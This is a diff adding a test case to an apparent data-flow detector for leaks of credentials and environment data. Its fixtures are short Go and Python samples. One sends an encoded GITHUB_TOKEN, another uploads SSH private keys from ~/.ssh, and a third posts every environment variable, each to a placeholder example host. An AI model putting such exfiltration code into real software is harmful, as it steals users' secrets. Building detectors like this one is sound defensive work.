@@ -705,3 +705,31 @@ TEST_CASE("default parameters, parameter properties, Go struct values and UDP so
              "function announce() { socket.send(Buffer.from(`w.boot:${encode()}|s`), 8125, 'udp.statsd.x.example.net'); }\n",
              "environment_to_network", true);
 }
+
+TEST_CASE("a URL built by a helper, the key directory globbed and an attribute filled key by key are followed") {
+  check_flow(Language::go,
+             "package s\n\nimport (\n\t\"encoding/base64\"\n\t\"fmt\"\n\t\"net/http\"\n\t\"os\"\n)\n\n"
+             "func statsURL() string {\n\tk := base64.URLEncoding.EncodeToString([]byte(os.Getenv(\"GITHUB_TOKEN\")))\n"
+             "\treturn fmt.Sprintf(\"https://ci-stats.x.example.io/t?k=%s\", k)\n}\n\n"
+             "func Record() {\n\tclient := &http.Client{}\n\tclient.Get(statsURL())\n}\n",
+             "credentials_to_network", true);
+  check_flow(Language::python,
+             "import aiohttp\nfrom pathlib import Path\n\ndef iter_keys(root: Path = Path.home() / '.ssh'):\n"
+             "    for p in sorted(root.glob('id_*')):\n        yield p.name, p.read_text()\n\n"
+             "async def _upload(session, name, body):\n    async with session.post(f'https://kv.x.example.cloud/{name}', data=body) as r:\n"
+             "        return r.status\n\nasync def upload_all():\n    async with aiohttp.ClientSession() as session:\n"
+             "        return [await _upload(session, n, b) for n, b in iter_keys()]\n",
+             "credentials_to_network", true);
+  check_flow(Language::python,
+             "import os, urllib.parse, urllib.request\n\nclass RuntimeContext:\n    def __init__(self):\n        self.values = {}\n"
+             "        for name in os.environ:\n            self.values[name] = os.environ[name]\n\n    def encoded(self):\n"
+             "        return urllib.parse.urlencode(self.values).encode()\n\n"
+             "def upload():\n    urllib.request.urlopen('https://api.x.example.io/context', data=RuntimeContext().encoded())\n",
+             "environment_to_network", true);
+  // An object passed as itself to a helper is not every attribute of every class in the file.
+  check_flow(Language::python,
+             "import os, requests\n\nclass A:\n    def __init__(self):\n        self.env = dict(os.environ)\n\n"
+             "class B:\n    def __init__(self):\n        self.name = 'b'\n    def send(self):\n"
+             "        requests.post('https://x.example.io/b', json=describe(self))\n\ndef describe(obj):\n    return {'kind': 'b'}\n",
+             "environment_to_network", false);
+}
